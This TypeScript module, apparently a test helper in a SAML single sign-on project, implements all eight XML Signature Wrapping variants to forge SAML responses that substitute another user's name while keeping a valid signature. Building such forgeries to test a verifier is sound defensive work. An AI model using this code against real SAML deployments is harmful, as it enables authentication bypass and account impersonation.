import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';
import { namespaces } from '@/lib/sso/saml/xml-tree';

/** Signature wrappings by their usual numbers (Somorovsky et al., "On Breaking SAML"; SAML Raider). */
export const wrappings = [1, 2, 3, 4, 5, 6, 7, 8] as const;
export type Wrapping = (typeof wrappings)[number];

/**
 * Moves what was signed to where a signature still finds it, and puts a forged copy, in which `name` is `forged`, to where
 * a careless reader looks. Where the wrapped element has no signature, that of the other is used.
 */
export function wrapSignature(xml: string, kind: Wrapping, name: string, forged: string): string {
  const document = new DOMParser().parseFromString(xml, 'application/xml');
  const response = document.documentElement!;
  if (kind <= 2) wrapResponse(response, kind);
  else wrapAssertion(document, response, kind);
  const written = new XMLSerializer().serializeToString(document);
  // The copy is marked, so that the words are changed in it alone.
  return written.replace(/ID="forged[^]*$/, (rest) => forgeMarked(rest, name, forged));
}

function forgeMarked(rest: string, name: string, forged: string): string {
  return rest.replace(new RegExp(`>${name}<`), `>${forged}<`);
}

function wrapResponse(response: Element, kind: number): void {
  const signature = childSignature(response) ?? childSignature(assertionOf(response))!;
  const original = response.cloneNode(true) as Element;
  for (const copied of [...original.children]) {
    if (copied.localName === 'Signature') original.removeChild(copied);
  }
  response.setAttribute('ID', 'forged');
  if (kind === 1) signature.appendChild(original);
  else response.insertBefore(original, signature.parentNode === response ? signature : null);
  // The forged parts come before what was moved, where a reader looks first.
  const moved = kind === 1 ? signature : original;
  moved.parentNode?.appendChild(moved);
}

function wrapAssertion(document: Document, response: Element, kind: number): void {
  const original = assertionOf(response);
  const signature = childSignature(original);
  const forged = original.cloneNode(true) as Element;
  forged.setAttribute('ID', 'forged');
  const copied = childSignature(forged);
  const unsign = () => copied && forged.removeChild(copied);
  if (kind === 3) {
    unsign();
    response.insertBefore(forged, original);
  } else if (kind === 4) {
    unsign();
    response.replaceChild(forged, original);
    forged.appendChild(original);
  } else if (kind === 5) {
    if (signature) original.removeChild(signature);
    response.insertBefore(forged, original);
  } else if (kind === 6) {
    if (signature) original.removeChild(signature);
    response.replaceChild(forged, original);
    (copied ?? childSignature(response)!).appendChild(original);
  } else if (kind === 7) {
    unsign();
    const extensions = document.createElementNS(namespaces.protocol, 'samlp:Extensions');
    extensions.appendChild(forged);
    response.insertBefore(extensions, original);
  } else {
    if (signature) original.removeChild(signature);
    response.replaceChild(forged, original);
    const object = document.createElementNS(namespaces.signature, 'ds:Object');
    object.appendChild(original);
    (copied ?? childSignature(response)!).appendChild(object);
  }
}

const assertionOf = (response: Element): Element =>
  [...response.children].find(({ localName }) => localName === 'Assertion')!;

const childSignature = (parent: Element): Element | null =>
  [...parent.children].find(({ localName }) => localName === 'Signature') ?? null;
